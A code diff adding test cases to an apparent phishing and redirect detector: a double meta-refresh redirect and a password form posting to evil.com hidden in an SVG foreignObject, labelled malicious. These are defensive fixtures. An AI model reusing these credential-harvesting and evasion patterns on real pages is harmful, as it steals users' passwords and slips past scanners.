@@ -147,6 +147,12 @@ export const SENT_AWAY: ReviewCase[] = [
         {},
         'The page sends its visitors on to other.com.',
       ],
+      [
+        'by a second meta',
+        '<meta http-equiv=refresh content=soon><meta http-equiv=refresh content="0;url=//other.com">',
+        {},
+        'The page sends its visitors on to other.com.',
+      ],
       ['by header', '', { refresh: '3; url=//other.com' }, 'The page sends its visitors on to other.com.'],
       [
         'by its base',
@@ -181,6 +187,7 @@ export const PASSWORDS = casesOf(
       'by one of two forms',
       '<form action=//hub.com/><input type=password></form><form action=//evil.com/><input type=password></form><a href=//hub.com/>Hub</a>',
     ],
+    ['in a drawing', '<svg><foreignObject><form action=//evil.com/><input type=password></form></foreignObject></svg>'],
     ['with links to others', '<form action=//evil.com/><input type=password></form><a href=//evil.org/>The bank</a>'],
   ]),
   'malicious',
